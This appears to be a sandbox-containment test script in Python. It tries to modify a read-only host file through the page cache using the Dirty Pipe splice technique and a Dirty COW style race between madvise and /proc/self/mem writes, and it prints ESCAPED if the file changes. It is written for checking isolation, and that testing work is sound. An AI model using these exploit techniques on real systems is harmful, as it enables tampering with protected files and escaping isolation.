# tries: change read-only files of the host in the page cache, as Dirty COW and Dirty Pipe did
# forbids: ESCAPED
import ctypes
import hashlib
import mmap
import os
import threading
import time

PATH = os.__file__
libc = ctypes.CDLL(None, use_errno=True)
libc.madvise.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]


def digest():
    return hashlib.sha256(open(PATH, "rb").read()).hexdigest()


before = digest()
file = os.open(PATH, os.O_RDONLY)
for _ in range(16):
    reading, writing = os.pipe()
    os.write(writing, b"x" * 65536)
    os.read(reading, 65536)
    os.splice(file, writing, 1, offset_src=0)
    os.write(writing, b"DIRTY PIPE")
mapped = mmap.mmap(file, 4096, mmap.MAP_PRIVATE, mmap.PROT_READ | mmap.PROT_WRITE)
address = ctypes.addressof(ctypes.c_char.from_buffer(mapped))
libc.mprotect(ctypes.c_void_p(address), 4096, mmap.PROT_READ)
until = time.monotonic() + 0.4


def drop():
    while time.monotonic() < until:
        libc.madvise(address, 4096, 4)


def write():
    memory = os.open("/proc/self/mem", os.O_RDWR)
    while time.monotonic() < until:
        os.pwrite(memory, b"DIRTY COW", address)


threads = [threading.Thread(target=target) for target in (drop, write, drop)]
for thread in threads:
    thread.start()
for thread in threads:
    thread.join()
for flags in (mmap.MAP_SHARED, 3):
    try:
        mmap.mmap(file, 4096, flags, mmap.PROT_READ | mmap.PROT_WRITE)
        print("ESCAPED a shared writable mapping")
    except OSError as error:
        print(error.strerror)
print("ESCAPED the file has changed" if digest() != before else "unchanged")
